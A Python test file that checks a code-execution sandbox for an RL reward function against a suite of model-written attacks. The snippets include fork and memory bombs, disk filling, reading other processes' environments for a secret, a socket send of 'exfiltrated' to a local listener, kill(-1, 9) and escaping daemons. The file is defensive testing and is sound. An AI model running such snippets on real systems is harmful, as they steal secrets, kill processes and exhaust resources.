"""The code sandbox (``areal_mega.sandbox``) against an attack suite, through the code reward.

Every attack is model-written code in a ```python block, scored by ``CodeReward`` against one
test whose expected output is "pwned": the attacks print it only when their effect worked from
the inside, so an escape the code can see scores 1. Each attack is also checked from the
outside (a listener that must receive nothing, files that must not exist, a secret that must not
appear, processes that must be gone, this process and the pool's workers alive). Controls:
correct / partly correct code scores 1 / the fraction; the same attacks from a plain subprocess
DO escape (connect, write, read the secret, outlive their parent), so the checks can fail.

One sandbox (2 workers) serves the whole module; the attacks run concurrently (~15 s).
"""

from __future__ import annotations

import asyncio
import ctypes
import os
import secrets
import socket
import sys
import textwrap
import time
from pathlib import Path

import pytest

from areal_mega.reward.code import CodeReward
from areal_mega.sandbox import Sandbox, SandboxConfig, namespaces_unavailable
from areal_mega.utils import procs

pytestmark = pytest.mark.slow

MARKER = f"sbxmarker{secrets.token_hex(6)}"  # in the daemons' command lines
SECRET = f"sbxsecret{secrets.token_hex(8)}"  # in this (the trainer's) environment
TIMEOUT_S = 3.0


def block(code: str) -> str:
    return "```python\n" + textwrap.dedent(code).strip("\n") + "\n```"


def marker_pids() -> list[int]:
    """Live processes whose command line carries MARKER (the daemons), from /proc."""
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if MARKER.encode() in cmd and state not in ("Z", "X"):
                out.append(int(entry))
    return out


@pytest.fixture(scope="module")
def env():
    if namespaces_unavailable():
        pytest.skip(f"namespaces unavailable: {namespaces_unavailable()}")
    os.environ["AREAL_TEST_SECRET"] = SECRET  # inherited by the sandbox workers too
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    libc = ctypes.CDLL(None, use_errno=True)
    shm = libc.shmget(0, 4096, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT: a host IPC object to find
    assert shm >= 0 and Path("/proc/sysvipc/shm").read_text().count("\n") > 1
    outside = Path(__file__).resolve().parent / f".sandbox_target_{os.getpid()}"
    outside.mkdir(mode=0o777)
    outside.chmod(0o777)  # world-writable: only the read-only view can stop the write
    reward = CodeReward(SandboxConfig(num_workers=2, timeout_s=TIMEOUT_S, cpu_s=3, memory_mb=256,
                                      file_size_mb=4, tmpfs_mb=16, max_processes=16, max_output_bytes=1 << 16))

    async def warm():  # both workers started, so that the suite can check they survive
        return await asyncio.gather(*[reward.sandbox.run("import time; time.sleep(0.5)") for _ in range(2)])

    # A worker's first execution also starts it: on a loaded machine that can pass TIMEOUT_S, so
    # wait until both have answered once (the condition), not a fixed number of tries.
    deadline = time.monotonic() + 120
    got = asyncio.run(warm())
    while not all(r.ok for r in got):
        assert time.monotonic() < deadline, f"sandbox workers never answered: {got}"
        got = asyncio.run(warm())
    try:
        yield {"reward": reward, "listener": listener, "outside": outside}
    finally:
        reward.close()
        listener.close()
        for f in outside.iterdir():
            f.unlink()
        outside.rmdir()
        del os.environ["AREAL_TEST_SECRET"]
        libc.shmctl(shm, 0, None)  # IPC_RMID


def attacks(port: int, tmp: Path, outside: Path) -> dict[str, str]:
    me = os.getpid()
    (tmp / "trainer_secret.txt").write_text(SECRET)
    (tmp / "trainer_secret.txt").chmod(0o644)
    daemon = f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sh", ["sh", "-c", "sleep 30; : {MARKER}"])
            os._exit(0)
        time.sleep(0.3)
    """
    return {
        "infinite_loop": "while True:\n    pass",
        "memory_bomb": "x = bytearray(8 << 30)\nprint('pwned')",
        "memory_creep": "chunks = []\nwhile True:\n    chunks.append(bytearray(1 << 26))",
        "fork_bomb": """
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """,
        "network_connect": f"""
            import socket
            s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
            s.sendall(b"exfiltrated")
            print("pwned")
        """,
        "write_outside_tmp": f"open({str(tmp / 'escaped.txt')!r}, 'w').write('x')\nprint('pwned')",
        "write_outside_repo": f"open({str(outside / 'escaped.txt')!r}, 'w').write('x')\nprint('pwned')",
        "read_trainer_env": f"""
            import os, glob
            seen = repr(dict(os.environ))
            for path in ["/proc/%d/environ" % os.getppid(), "/proc/1/environ", "/proc/{me}/environ"] + glob.glob("/proc/*/environ"):
                try:
                    seen += open(path, "rb").read().decode(errors="replace")
                except OSError as e:
                    seen += repr(e)
            print("pwned" if "{SECRET}" in seen else seen[:2000])
        """,
        "read_trainer_files": f"print(open({str(tmp / 'trainer_secret.txt')!r}).read())\nprint('pwned')",
        "kill_parent": "import os\nos.kill(os.getppid(), 9)\nprint('pwned')",
        "kill_trainer": f"import os\nos.kill({me}, 9)\nprint('pwned')",
        "kill_everything": "import os\nos.kill(-1, 9)\nprint('pwned')",  # ESRCH: it may signal nothing else
        "setuid_root": "import os\nos.setuid(0)\nprint('pwned')",
        "host_ipc": "print('pwned' if open('/proc/sysvipc/shm').read().count(chr(10)) > 1 else 'no shm')",
        "fill_disk_one_file": """
            with open("big", "wb") as f:
                while True:
                    f.write(b"x" * (1 << 20))
        """,
        "fill_disk_many_files": """
            i = 0
            while True:
                with open("f%d" % i, "wb") as f:
                    f.write(b"x" * ((1 << 20) - 1))
                i += 1
        """,
        "flood_stdout": "while True:\n    print('x' * 1000)",
        "daemon_then_exit": daemon,
        "daemon_then_hang": textwrap.dedent(daemon) + "time.sleep(600)\n",
    }


def test_attack_suite(env, tmp_path):
    reward, listener, outside = env["reward"], env["listener"], env["outside"]
    port = listener.getsockname()[1]
    kinds = attacks(port, tmp_path, outside)
    workers_before = {w.proc.pid for w in reward.sandbox.pool._all}
    assert len(workers_before) == 2

    async def run_all():
        return await asyncio.gather(*[reward.evaluate("", block(code), {"tests": [{"input": "", "output": "pwned"}]})
                                      for code in kinds.values()])

    t0 = time.monotonic()
    results = dict(zip(kinds, asyncio.run(run_all())))
    wall = time.monotonic() - t0
    left = marker_pids()  # right after the calls: nothing may be left running
    try:
        conn = listener.accept()[0]  # a connection that reached us, if any
        conn.close()
        connected = True
    except BlockingIOError:
        connected = False

    escaped = {}
    for kind, res in results.items():
        if res.score != 0.0 or res.info["reasons"] in ([], ["ok"]):
            escaped[kind] = f"score {res.score}, {res.info}"
    if connected:
        escaped["network_connect"] = "the listener received a connection"
    for target in (tmp_path / "escaped.txt", outside / "escaped.txt"):
        if target.exists():
            escaped["write_outside"] = f"{target} exists"
    if left:
        escaped["daemon"] = f"still running: {left}"
        procs.stop_pids(left, grace_s=0.0)
    table = {k: (r.score, r.info["reasons"][0]) for k, r in results.items()}
    print(f"\nsandbox attacks: tried {len(kinds)}, escaped {len(escaped)} ({wall:.1f} s)")
    for kind, (score, reason) in table.items():
        print(f"  {kind:22s} score {score}  reason {reason}")
    assert not escaped, escaped
    assert len(kinds) >= 10
    expected = {"infinite_loop": "timeout", "memory_bomb": "memory", "memory_creep": "memory",
                "fork_bomb": "timeout", "network_connect": "runtime_error", "flood_stdout": "output_limit",
                "fill_disk_one_file": "file_size", "fill_disk_many_files": "runtime_error",
                "kill_parent": "runtime_error", "setuid_root": "runtime_error", "kill_everything": "runtime_error",
                "daemon_then_hang": "timeout", "daemon_then_exit": "wrong_answer", "host_ipc": "wrong_answer"}
    assert {k: table[k][1] for k in expected} == expected
    # The pool survived: the same workers (no attack reached them), and they still work.
    assert {w.proc.pid for w in reward.sandbox.pool._all} == workers_before
    assert procs.alive(workers_before) == workers_before
    ok = asyncio.run(reward.evaluate("", block("print(input())"), {"tests": [{"input": "alive\n", "output": "alive"}]}))
    assert ok.score == 1.0


COUNT_FORKS = textwrap.dedent("""
    import os, time
    n = 0
    try:
        for _ in range(40):
            if os.fork() == 0:
                time.sleep(1)
                os._exit(0)
            n += 1
    except OSError:
        pass
    print(n)
""")


def test_fork_bomb_is_bounded(env):
    """The process limit binds (it would not for root: see the unsafe-mode test): the code
    counts its own forks."""
    res = asyncio.run(env["reward"].sandbox.run(COUNT_FORKS))
    assert res.ok, res
    print(f"\nfork bomb: {res.stdout.strip()} forks succeeded under max_processes=16")
    assert 0 < int(res.stdout) < 16  # max_processes=16 counts the main process too


def test_positive_controls(env):
    reward = env["reward"]
    tests = [{"input": "2 3\n", "output": "5"}, {"input": "10 -4\n", "output": "6"},
             {"input": "1 1\n", "output": "2"}, {"input": "0 0\n", "output": "0"}]
    good = block("a, b = map(int, input().split())\nprint(a + b)")
    part = block("a, b = map(int, input().split())\nprint(a + b if a < 2 else 5)")  # tests 1, 3, 4
    bad_syntax = block("def f(:\n    pass")

    async def run():
        return await asyncio.gather(*[reward.evaluate("", c, {"tests": tests}) for c in (good, part, bad_syntax, "none")])

    good_r, part_r, syn_r, none_r = asyncio.run(run())
    assert (good_r.score, good_r.info["fraction_passed"], good_r.info["reasons"]) == (1.0, 1.0, [])
    assert (part_r.score, part_r.info["reasons"]) == (0.75, ["wrong_answer"])
    assert (syn_r.score, syn_r.info["reasons"]) == (0.0, ["syntax_error"] * 4)
    assert none_r.info["reasons"] == ["no_code"]
    assert asyncio.run(reward("", good, {"tests": tests})) == 1.0  # the float interface


def test_controls_escape_without_sandbox(tmp_path):
    """The same attacks from a plain subprocess DO escape: the suite's checks can fail."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(10)
    port = listener.getsockname()[1]
    env = {**os.environ, "AREAL_TEST_SECRET": SECRET}
    code = attacks(port, tmp_path, tmp_path)
    try:
        out = procs.run([sys.executable, "-c", textwrap.dedent(code["network_connect"])], timeout=30, env=env)
        conn = listener.accept()[0]
        assert conn.recv(100) == b"exfiltrated" and "pwned" in out.stdout
        conn.close()
    finally:
        listener.close()
    out = procs.run([sys.executable, "-c", f"import os; os.kill({os.getpid()}, 0); print('pwned')"], timeout=30)
    assert "pwned" in out.stdout  # the trainer is visible and signalable (signal 0: no harm done)
    out = procs.run([sys.executable, "-c", code["write_outside_tmp"]], timeout=30)
    assert (tmp_path / "escaped.txt").exists()
    out = procs.run([sys.executable, "-c", textwrap.dedent(code["read_trainer_env"])], timeout=30, env=env)
    assert "pwned" in out.stdout
    # The old reward's containment: its own session, the group killed at the end. (procs.run's
    # wrapper is a subreaper and would catch this daemon; the sandbox must not rely on that.)
    p = procs.spawn([sys.executable, "-c", textwrap.dedent(code["daemon_then_exit"])], wrap=False)
    p.wait(timeout=30)
    procs.signal_group(p.pid, 9)
    deadline = time.monotonic() + 10
    while not (left := marker_pids()) and time.monotonic() < deadline:
        time.sleep(0.05)  # the daemon's exec of sh
    assert left, "a plain subprocess's setsid daemon should outlive its group's kill"
    procs.stop_pids(left, grace_s=0.0)


def test_unsafe_mode_runs_with_rlimits_only():
    with Sandbox(SandboxConfig(mode="rlimits_only_unsafe", num_workers=1, timeout_s=3.0, max_processes=16)) as sb:
        ok = sb.run_sync("print(input()[::-1])", "abc\n")
        loop = sb.run_sync("while True: pass")
        mem = sb.run_sync("x = bytearray(4 << 30)")
        forks = sb.run_sync(COUNT_FORKS)
    assert (ok.reason, ok.stdout) == ("ok", "cba\n")
    assert loop.reason == "timeout" and mem.reason == "memory"
    if os.geteuid() == 0:  # the control for the uid switch: RLIMIT_NPROC does not bind root
        assert forks.ok and int(forks.stdout) == 40, forks


def test_python_and_user_tools_from_config(tmp_path, monkeypatch):
    """The registry built from config: python runs in the sandbox (its own pool), a user tool by
    import path; the tool workflow dispatches a <python> call and sees its output."""
    (tmp_path / "tools_t.py").write_text("def shout(text: str, times: int = 1) -> str:\n"
                                         "    '''Upper-case a text.'''\n    return text.upper() * times\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    from areal_mega.api.engine import InferenceEngine
    from areal_mega.api.io import GenerationResult
    from areal_mega.agent_tools import ToolConfig, build_tools
    from areal_mega.workflows import WorkflowConfig, build_workflow

    reg = build_tools([ToolConfig(kind="python", sandbox=SandboxConfig(num_workers=1, timeout_s=2.0)),
                       ToolConfig(kind="function", function="tools_t:shout")])
    try:
        assert reg.names() == ["python", "shout"]
        assert reg.schemas()[1]["function"]["description"] == "Upper-case a text."
        assert asyncio.run(reg.call("shout", {"text": "ab", "times": 2})) == "ABAB"
        assert asyncio.run(reg.call("python", {"code": "print(sum(range(10)))"})) == "45\n"
        escaped = asyncio.run(reg.call("python", {"code": "import socket; socket.create_connection(('127.0.0.1', 1))"}))
        assert escaped.startswith("error (runtime_error):") and "Network is unreachable" in escaped
        assert asyncio.run(reg.call("python", {"code": "while True: pass"})).startswith("error (timeout)")

        class Tok:
            eos_token_id = 3

            def encode(self, text, add_special_tokens=False):
                return [ord(c) + 10 for c in text]

            def decode(self, ids, skip_special_tokens=True):
                return "".join(chr(i - 10) for i in ids if i >= 10)

        class Engine(InferenceEngine):
            async def agenerate(self, req):
                text = Tok().decode(req.input_ids)
                out = "<python>print(6 * 7)</python>" if "<result>" not in text else "so 42"
                ids = Tok().encode(out) + [3]
                return GenerationResult(list(req.input_ids), ids, [-0.1] * len(ids), [0] * len(ids), "stop")

            async def pause(self): ...
            async def resume(self): ...
            def get_version(self): return 0
            def set_version(self, v): ...

        async def reward(prompt, completion, data):
            return float(completion.endswith("so 42"))

        wf = build_workflow(WorkflowConfig(kind="tool", group_size=1), Tok(), reward, reg)
        (t,) = asyncio.run(wf.arun_episode(Engine(), {"id": "q", "prompt": "Q:"}))
        assert t.info["completion"] == "<python>print(6 * 7)</python><result>42\n</result>so 42" and t.reward == 1.0
    finally:
        reg.close()
